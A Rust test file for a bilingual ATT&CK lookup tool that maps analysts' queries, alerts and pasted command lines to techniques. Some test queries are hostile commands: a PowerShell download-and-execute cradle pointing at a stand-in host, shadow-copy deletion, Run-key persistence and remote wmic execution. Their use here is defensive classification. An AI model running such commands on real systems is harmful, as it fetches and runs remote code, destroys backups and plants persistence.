//! Search and show, round two: the lookups of an analyst's day that round one got wrong.
//! Event numbers, analytics' log sources, lone IDs and their family, names several objects
//! share, Japanese notes, queries from standard input.

mod common;

use common::*;

#[test]
fn an_event_number_answers_with_its_technique_then_the_event() {
    let kb = open();
    for (q, technique, event) in [
        ("4698", "T1053.005", "security-4698"),
        ("EventID 4720", "T1136.001", "security-4720"),
        ("sysmon 10", "T1003.001", "sysmon-10"),
        ("event id 1102", "T1070.001", "security-1102"),
        ("7045", "T1543.003", "system-7045"),
        ("4104", "T1059.001", "powershell-4104"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], technique, "{q}: {hits:?}");
        assert!(hits[..3].contains(&event.to_string()), "{q}: {hits:?}");
    }
}

#[test]
fn a_technique_lists_the_events_that_detect_it() {
    let o = kb(&["show", "--json", "T1558.003"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let events: Vec<&str> = v["relations"]["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter_map(|e| e["id"].as_str())
        .collect();
    assert!(events.contains(&"security-4769"), "{events:?}");
}

#[test]
fn analytics_show_their_logs_and_have_readable_names() {
    let kb = open();
    let hits = search(&kb, "4769");
    let analytic = hits
        .iter()
        .find(|h| h.stored.kind == attack_kb::model::Kind::Analytic)
        .expect("an analytic that reads event 4769");
    assert!(
        !analytic.stored.name.starts_with("Analytic "),
        "{}",
        analytic.stored.name
    );
    assert!(
        analytic
            .stored
            .name_ja
            .as_deref()
            .is_some_and(attack_kb::text::has_japanese)
    );
    let shown = attack_kb::query::show(&kb, &analytic.stored.id).expect("show");
    assert!(
        shown
            .entity
            .log_sources
            .iter()
            .any(|l| l.channel.contains("4769"))
    );
}

#[test]
fn a_lone_id_lists_the_object_then_its_family() {
    let kb = open();
    let hits = ids(&search(&kb, "t1003"));
    assert_eq!(hits[0], "T1003");
    let subs: Vec<&String> = hits.iter().skip(1).take(8).collect();
    assert!(subs.iter().all(|h| h.starts_with("T1003.")), "{hits:?}");
    let hits = ids(&search(&kb, "T1003.001"));
    assert_eq!(&hits[..2], ["T1003.001", "T1003"]);
    // Detection strategies of other `.001` techniques are not the family.
    assert!(!hits[..4].iter().any(|h| h.starts_with("DET")), "{hits:?}");
}

#[test]
fn a_name_that_several_objects_share_lists_them_all() {
    let kb = open();
    let shown = attack_kb::query::show(&kb, "ドメインアカウント").expect("show");
    let mut all: Vec<String> = shown.same_name.iter().map(|r| r.id.clone()).collect();
    all.push(shown.entity.id.clone());
    for id in ["T1078.002", "T1136.002", "T1087.002"] {
        assert!(all.contains(&id.to_string()), "{all:?}");
    }
}

#[test]
fn japanese_output_has_no_english_notes_of_ours() {
    let out = stdout(&kb(&[
        "search",
        "--lang",
        "ja",
        "An anomalous scheduled task was created",
    ]));
    assert!(out.contains("← アラート:"), "{out}");
    assert!(!out.contains("← alert:"), "{out}");
    let out = stdout(&kb(&["search", "--lang", "ja", "T1574.002"]));
    assert!(out.contains("廃止された"), "{out}");
}

#[test]
fn english_output_names_programs_by_their_file_name() {
    let out = stdout(&kb(&["search", "--lang", "en", "schtasks"]));
    let first = out.lines().next().unwrap_or("");
    assert!(
        first.contains("schtasks.exe") && !attack_kb::text::has_japanese(first),
        "{first}"
    );
}

#[test]
fn a_query_can_come_from_standard_input() {
    let out = kb_stdin(
        &["search", "--json", "-"],
        br#"cmd /c "echo 'x' > C:\a.txt:s" & whoami"#,
    );
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["results"][0]["id"], "cmd.exe");
}

#[test]
fn groups_are_found_by_where_they_come_from() {
    let kb = open();
    for (q, group) in [
        ("北朝鮮", "G0032"),
        ("North Korea", "G0032"),
        ("ロシア", "G0016"),
    ] {
        let hits = ids(&search(&kb, q));
        assert!(hits.iter().take(10).any(|h| h == group), "{q}: {hits:?}");
    }
}

#[test]
fn an_unknown_file_is_said_to_be_unknown_before_loose_matches() {
    let o = kb(&["search", "--json", "WinATP-Intro-Backdoor.exe"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["unknown_program"], "WinATP-Intro-Backdoor.exe");
    let out = stdout(&kb(&[
        "search",
        "--lang",
        "ja",
        "WinATP-Intro-Backdoor.exe",
    ]));
    assert!(
        out.lines().next().unwrap_or("").contains("カタログ"),
        "{out}"
    );
    let o = kb(&["search", "--json", "certutil.exe"]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert!(v["unknown_program"].is_null());
}

#[test]
fn show_by_an_mde_term_says_what_it_stands_for() {
    let out = stdout(&kb(&["show", "--lang", "ja", "常設"]));
    assert!(out.starts_with("※ 「常設」は"), "{out}");
    assert!(out.contains("TA0003"));
}

#[test]
fn tools_list_their_mde_alerts_and_all_lists_everything() {
    let out = stdout(&kb(&["show", "Mimikatz"]));
    assert!(out.contains("mimikatz-credential-theft-tool"), "{out}");
    let out = stdout(&kb(&["show", "comsvcs.dll"]));
    assert!(out.contains("suspicious-access-to-lsass"), "{out}");
    let cut = stdout(&kb(&["show", "T1059.001"]));
    let all = stdout(&kb(&["show", "--all", "T1059.001"]));
    assert!(cut.contains("--all") && all.lines().count() > cut.lines().count() + 50);
}

#[test]
fn lint_catches_vocabulary_drift_tactic_keywords_and_missing_binaries() {
    use attack_kb::model::lint;
    use attack_kb::source::curated::Curated;
    let dir = kb_dir(
        "vocab",
        "vocabulary.toml",
        "[[rule]]\nprefer = \"横移動\"\navoid = [\"横展開\"]\n",
    );
    std::fs::write(
        dir.join("ja").join("t.toml"),
        "[[technique]]\nid = \"T1021\"\nname = \"リモートサービスによる横展開\"\nkeywords = [\"権限昇格\"]\n",
    )
    .expect("write");
    let curated = Curated::from_dir(&dir).expect("kb/ parses");
    let kb = load_kb(&[ENTERPRISE]);
    let problems = lint::lint(&curated, &kb)
        .problems
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        problems.contains("write \"横移動\", not \"横展開\""),
        "{problems}"
    );
    assert!(
        problems.contains("keyword \"権限昇格\" is the name of tactic TA0004"),
        "{problems}"
    );
    let embedded = Curated::embedded().expect("kb/ parses");
    let missing = lint::missing_binaries(&embedded, "Certutil.exe\nNotAThing.exe\n# comment\n");
    assert_eq!(missing, ["NotAThing.exe"]);
}

#[test]
fn programs_filtered_by_a_technique_or_concept_are_those_that_carry_it() {
    let kb = open();
    for q in ["T1105", "ダウンロード", "download"] {
        let req = attack_kb::query::SearchRequest {
            query: q.into(),
            limit: 5,
            kinds: vec![attack_kb::model::Kind::Binary],
            ..Default::default()
        };
        let hits = ids(&attack_kb::query::search(&kb, &req).expect("search").results);
        assert!(
            hits.iter().take(5).any(|h| h == "certutil.exe"),
            "{q}: {hits:?}"
        );
        assert!(
            !hits.contains(&"visio.exe".to_string()) && !hits.contains(&"setspn.exe".to_string())
        );
    }
}

/// The `show --json` record of `key`.
fn shown_json(args: &[&str]) -> serde_json::Value {
    let o = kb(args);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice(&o.stdout).expect("json")
}

/// The text of the relationship to `id` in the `rel` list of a `show --json` record.
fn note_of(v: &serde_json::Value, rel: &str, id: &str) -> String {
    v["relations"][rel]
        .as_array()
        .expect("relation list")
        .iter()
        .find(|r| r["id"] == id)
        .and_then(|r| r["note"].as_str())
        .unwrap_or_else(|| panic!("{id} has no note in {rel}"))
        .to_string()
}

#[test]
fn show_t1053_005_gives_apt29s_procedure_line() {
    let v = shown_json(&["show", "--json", "T1053.005"]);
    let apt29 = note_of(&v, "groups", "G0016");
    assert!(apt29.contains("APT29"), "{apt29}");
    assert!(apt29.to_lowercase().contains("scheduled task"), "{apt29}");
    assert!(!apt29.contains("(Citation:"), "{apt29}");
    // Software and campaigns carry theirs too.
    assert!(!note_of(&v, "software", "S0111").is_empty());
    // The text output puts the procedure under its group; in Japanese it is marked English.
    let o = kb(&["show", "T1053.005", "--lang", "ja"]);
    let text = stdout(&o);
    let lines: Vec<&str> = text.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.trim_start().starts_with("G0016 "))
        .expect("APT29 listed");
    assert!(
        lines[at + 1].contains("APT29 has used"),
        "{}",
        lines[at + 1]
    );
    assert!(text.contains("MITRE の原文、英語"), "{text}");
}

#[test]
fn show_apt29_gives_a_procedure_per_technique_cut_unless_all() {
    let v = shown_json(&["show", "--json", "APT29"]);
    let techniques = v["relations"]["techniques"].as_array().expect("techniques");
    let with_text = techniques.iter().filter(|t| t["note"].is_string()).count();
    assert!(
        with_text * 10 >= techniques.len() * 9,
        "{with_text} of {}",
        techniques.len()
    );
    // A long procedure is one short line by default, whole with --all.
    let long = techniques
        .iter()
        .filter_map(|t| t["note"].as_str())
        .find(|n| n.chars().count() > 200)
        .expect("a long procedure text");
    let short = stdout(&kb(&["show", "G0016"]));
    let all = stdout(&kb(&["show", "G0016", "--all"]));
    assert!(!short.contains(long), "cut by default");
    assert!(all.contains(long), "--all prints it whole");
}

#[test]
fn a_country_or_its_agency_puts_that_countrys_groups_first() {
    let kb = open();
    for (q, mark) in [
        ("Chinese threat actor", "中国系"),
        ("中国の攻撃グループ", "中国系"),
        ("Russian hackers", "ロシア系"),
        ("ロシア系APT", "ロシア系"),
        ("SVR", "ロシア系"),
        ("DPRK", "北朝鮮系"),
        ("北朝鮮のハッカー", "北朝鮮系"),
        ("Iran-nexus actors", "イラン系"),
        ("イランの APT", "イラン系"),
    ] {
        let hits = search(&kb, q);
        let of_country = hits
            .iter()
            .take(5)
            .filter(|h| {
                attack_kb::query::show(&kb, &h.stored.id)
                    .is_ok_and(|s| s.entity.keywords_ja.iter().any(|k| k == mark))
            })
            .count();
        assert_eq!(
            hits[0].stored.kind,
            attack_kb::model::Kind::Group,
            "{q}: {:?}",
            ids(&hits)
        );
        assert!(of_country >= 3, "{q}: {of_country} of 5: {:?}", ids(&hits));
    }
    // A country's name inside another word is not that country (インド in ウインドウ).
    let hits = search(&kb, "ウインドウ");
    assert_ne!(
        hits[0].stored.kind,
        attack_kb::model::Kind::Group,
        "{:?}",
        ids(&hits)
    );
}

/// The entries of a help page that describe an argument or a command: an entry's text may be
/// on its own line, or on the lines below it when clap wraps a narrow terminal's page.
fn described_lines(help: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for l in help.lines() {
        let t = l.trim_start();
        if t.is_empty() || !l.starts_with("  ") {
            continue;
        }
        let indent = l.len() - t.len();
        match out.last_mut() {
            // A continuation: more indented than an entry (entries start at 2 to 6 spaces).
            Some(last) if indent > 6 => last.push_str(t),
            _ => out.push(t.to_string()),
        }
    }
    out
}

#[test]
fn japanese_help_has_japanese_for_every_command_and_argument() {
    let top = stdout(&kb(&["--lang", "ja", "-h"]));
    assert!(
        top.contains("使い方:") && top.contains("コマンド:"),
        "{top}"
    );
    for english in ["[OPTIONS]", "<COMMAND>"] {
        assert!(!top.contains(english), "kb -h: {english}\n{top}");
    }
    let commands: Vec<String> = top
        .lines()
        .skip_while(|l| !l.starts_with("コマンド:"))
        .skip(1)
        .take_while(|l| l.starts_with("  "))
        .filter_map(|l| l.split_whitespace().next().map(str::to_string))
        .collect();
    assert!(commands.len() >= 9, "{commands:?}");
    // No English placeholder (<QUERY>, <INDEX>) is left beside an option or in the usage.
    let placeholder = regex::Regex::new(r"[<\[][A-Z][A-Z_]*[>\]]").expect("regex");
    for c in &commands {
        let o = kb(&["--lang", "ja", c, "-h"]);
        let help = stdout(&o);
        for english in [
            "Usage:",
            "Options:",
            "Arguments:",
            "[default:",
            "[possible values:",
            "[OPTIONS]",
            "<COMMAND>",
        ] {
            assert!(!help.contains(english), "kb {c} -h: {english}\n{help}");
        }
        for line in described_lines(&help) {
            assert!(attack_kb::text::has_japanese(&line), "kb {c} -h: {line}");
        }
        assert!(
            !placeholder.is_match(&help),
            "kb {c} -h: English placeholder\n{help}"
        );
    }
    // The locale decides when --lang is not given.
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_kb"))
        .args(["search", "--help"])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("LANG", "ja_JP.UTF-8")
        .output()
        .expect("kb runs");
    assert!(stdout(&o).contains("検索する語句"), "{}", stdout(&o));
}

#[test]
fn errors_speak_the_analysts_language() {
    // A command line kb cannot read: exit 2, said in Japanese with the command to read about.
    let o = kb(&["--lang", "ja", "search", "--limit", "0", "x"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("エラー") && err.contains("kb search --help"),
        "{err}"
    );
    // An ID that does not exist: exit 3, Japanese in Japanese mode, English otherwise.
    let o = kb(&["--lang", "ja", "show", "T1053.999"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(3), "{err}");
    assert!(
        err.contains("ATT&CK にありません") && err.contains("T1053"),
        "{err}"
    );
    let o = kb(&["show", "T1053.999"]);
    assert!(String::from_utf8_lossy(&o.stderr).contains("does not exist in ATT&CK"));
    // A missing index names the folder and the fix in Japanese.
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_kb"))
        .args(["--lang", "ja", "--index", "/nonexistent/kb-index", "info"])
        .output()
        .expect("kb runs");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("インデックスがありません") && err.contains("kb index"),
        "{err}"
    );
}

#[test]
fn every_message_kb_says_has_english_and_japanese() {
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut files = vec![src];
    let mut keys = Vec::new();
    while let Some(p) = files.pop() {
        if p.is_dir() {
            files.extend(
                std::fs::read_dir(&p)
                    .expect("src")
                    .flatten()
                    .map(|e| e.path()),
            );
        } else if p.extension().is_some_and(|x| x == "rs") {
            let text = std::fs::read_to_string(&p).expect("source");
            for part in text.split("msg!(").skip(1) {
                let key: String = part
                    .trim_start()
                    .strip_prefix('"')
                    .map(|r| r.chars().take_while(|c| *c != '"').collect())
                    .unwrap_or_default();
                if !key.is_empty() {
                    keys.push((p.display().to_string(), key));
                }
            }
        }
    }
    assert!(keys.len() > 50, "{}", keys.len());
    let unknown: Vec<_> = keys
        .iter()
        .filter(|(_, k)| !attack_kb::message::is_known(k))
        .collect();
    assert!(unknown.is_empty(), "add to kb/ja/cli.toml: {unknown:?}");
}

#[test]
fn a_sub_technique_is_found_however_it_is_written() {
    // The analyst pastes a URL of attack.mitre.org, a Sigma tag or a report's short form.
    let kb = open();
    for (q, id) in [
        (
            "https://attack.mitre.org/techniques/T1059/001/",
            "T1059.001",
        ),
        ("T1059/001", "T1059.001"),
        ("T1059-001", "T1059.001"),
        ("attack.t1003.001", "T1003.001"),
        ("T1003.1", "T1003.001"),
        ("T1059 .001", "T1059.001"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], id, "{q}: {hits:?}");
    }
    let hits = ids(&search(&kb, "T1566.001;T1204.002"));
    assert!(hits[..2].contains(&"T1566.001".to_string()), "{hits:?}");
    assert!(hits[..2].contains(&"T1204.002".to_string()), "{hits:?}");
}

#[test]
fn katakana_names_match_with_or_without_their_dots_and_spaces() {
    // パス・ザ・ハッシュ is typed パスザハッシュ; ドライブバイ・コンプロマイズ with a space.
    let kb = open();
    for (q, id) in [
        ("パスザハッシュ", "T1550.002"),
        ("パスザチケット", "T1550.003"),
        ("ドライブバイ コンプロマイズ", "T1189"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], id, "{q}: {hits:?}");
    }
}

#[test]
fn misspelt_words_whose_stem_exists_still_find_the_name() {
    // persistance stems to persist, which the index knows: it is still a typo of Persistence.
    let kb = open();
    for (q, id) in [
        ("persistance", "TA0003"),
        ("exfilration", "TA0010"),
        ("netstatt", "netstat.exe"),
        ("regsvr", "regsvr32.exe"),
        ("apt 29", "G0016"),
        ("APT-28", "G0007"),
    ] {
        let hits = ids(&search(&kb, q));
        assert!(hits[..2].contains(&id.to_string()), "{q}: {hits:?}");
    }
    // A word of a name is no typo: Sandworm is Sandworm Team, not Seedworm.
    assert_eq!(ids(&search(&kb, "Sandworm"))[0], "G0034");
}

#[test]
fn pasted_powershell_code_is_read_like_a_command_line() {
    // `Net.WebClient` in a download cradle is not net.exe.
    let kb = open();
    let hits = ids(&search(
        &kb,
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
    ));
    assert_eq!(hits[0], "T1059.001", "{hits:?}");
    assert!(hits[..3].contains(&"T1105".to_string()), "{hits:?}");
}

#[test]
fn mde_japanese_tactic_names_lead_to_the_enterprise_tactic() {
    // search 横方向の移動 (MDE's Lateral Movement) → TA0008 first.
    let kb = open();
    for (q, id) in [("横方向の移動", "TA0008"), ("常設", "TA0003")] {
        assert_eq!(ids(&search(&kb, q))[0], id, "{q}");
    }
}

#[test]
fn a_linking_no_between_nouns_is_optional() {
    // An analyst writes 痕跡の消去 or 痕跡消去, サービスの作成 or サービス作成: both reach the
    // technique whatever form its name or synonym takes.
    let kb = open();
    for (q, want) in [
        ("痕跡消去", "T1070"),
        ("痕跡の消去", "T1070"),
        ("サービス作成", "T1543.003"),
        ("ファイアウォール無効化", "T1562.004"),
        ("資格情報窃取", "TA0006"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], want, "{q}: {hits:?}");
    }
}

#[test]
fn a_japanese_technique_name_matches_without_its_gloss() {
    // 偽装(マスカレーディング) is 偽装: the Enterprise technique, not the Mobile one whose name is
    // the bare word.
    let kb = open();
    for (q, want) in [("偽装", "T1036"), ("タイムスタンプの改ざん", "T1070.006")] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], want, "{q}: {hits:?}");
    }
}

#[test]
fn a_concept_wrapped_in_an_analysts_words_is_still_the_concept() {
    // The night shift writes what it sees: 不審な…, …の悪用, …攻撃, …の実行.
    let kb = open();
    for (q, want) in [
        ("リモート管理ツールの悪用", "T1219"),
        ("ユーザーアカウント制御の回避", "T1548.002"),
        ("Kerberoasting攻撃", "T1558.003"),
        ("不審なサービスの作成", "T1543.003"),
        ("不審なキーロガー", "T1056.001"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], want, "{q}: {hits:?}");
    }
}

#[test]
fn a_data_component_name_gives_way_to_the_technique() {
    // ファイアウォールの無効化 is both a log's data component and what the attacker did; the
    // analyst wants the technique, the data component stays close by.
    let kb = open();
    let hits = ids(&search(&kb, "ファイアウォールの無効化"));
    assert_eq!(hits[0], "T1562.004", "{hits:?}");
    assert!(hits[..5].contains(&"DC0043".to_string()), "{hits:?}");
}

#[test]
fn identity_and_mail_alerts_lead_to_their_technique() {
    // Defender for Identity and Defender for Office 365 alerts share the XDR incident queue.
    let kb = open();
    for (q, want) in [
        ("Suspected Kerberos SPN exposure", "T1558.003"),
        ("DCSync 攻撃の疑い", "T1003.006"),
        ("疑わしいURLがクリックされました", "T1204.001"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], want, "{q}: {hits:?}");
    }
}

#[test]
fn groups_and_malware_are_found_by_their_katakana_names() {
    let kb = open();
    for (q, want) in [
        ("メニューパス", "G0045"),
        ("ブラックテック", "G0098"),
        ("プラグエックス", "S0013"),
        ("コンティ", "S0575"),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], want, "{q}: {hits:?}");
    }
}

#[test]
fn a_command_run_through_cmd_c_is_read_for_what_it_runs() {
    // `cmd.exe /c …` is a launcher: the command it runs (quoted or not) decides the answer,
    // unless the wrapper's own arguments prove something (wmic … process call create).
    let kb = open();
    for (q, first) in [
        (
            r#"cmd.exe /c "reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\u.exe""#,
            "reg.exe",
        ),
        (
            r"cmd.exe /c reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v s /d C:\s.exe",
            "reg.exe",
        ),
        ("cmd /c vssadmin delete shadows /all /quiet", "vssadmin.exe"),
        (
            r#"wmic /node:10.0.0.5 process call create "cmd.exe /c whoami""#,
            "wmic.exe",
        ),
    ] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], first, "{q}: {hits:?}");
    }
}

#[test]
fn a_phrase_known_whole_is_not_a_program_and_a_word() {
    // `remote desktop` is RDP, though `remote` alone names remote.exe.
    let kb = open();
    let hits = ids(&search(&kb, "remote desktop"));
    assert!(
        ["T1021.001", "mstsc.exe"].contains(&hits[0].as_str()),
        "{hits:?}"
    );
    // A program and a verb still lead with the program.
    let hits = ids(&search(&kb, "certutil decode"));
    assert!(
        ["certutil.exe", "T1140"].contains(&hits[0].as_str()),
        "{hits:?}"
    );
}

#[test]
fn a_sub_technique_number_after_a_space_is_the_id() {
    let kb = open();
    for q in ["t1059 001", "T1059 001"] {
        let hits = ids(&search(&kb, q));
        assert_eq!(hits[0], "T1059.001", "{q}: {hits:?}");
    }
}
